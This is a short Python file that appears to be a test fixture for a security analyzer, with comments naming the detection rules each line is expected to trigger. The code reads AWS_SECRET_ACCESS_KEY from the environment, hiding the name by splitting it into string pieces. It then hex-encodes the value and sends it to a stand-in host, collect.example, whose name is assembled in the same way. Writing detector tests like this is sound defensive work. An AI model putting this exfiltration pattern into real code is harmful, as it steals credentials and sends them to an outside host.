import os
from urllib.request import urlopen

name = "AWS_" + "SECRET_" + "ACCESS_KEY"
value = os.environ.get(name) # expect: credential-leak/secret-read-for-foreign-host
urlopen("https://" + ".".join(["collect", "example"]) + "/?v=" + value.encode().hex()) # expect: data-exfiltration/secret-to-foreign-host, url-analyzer/hidden-host
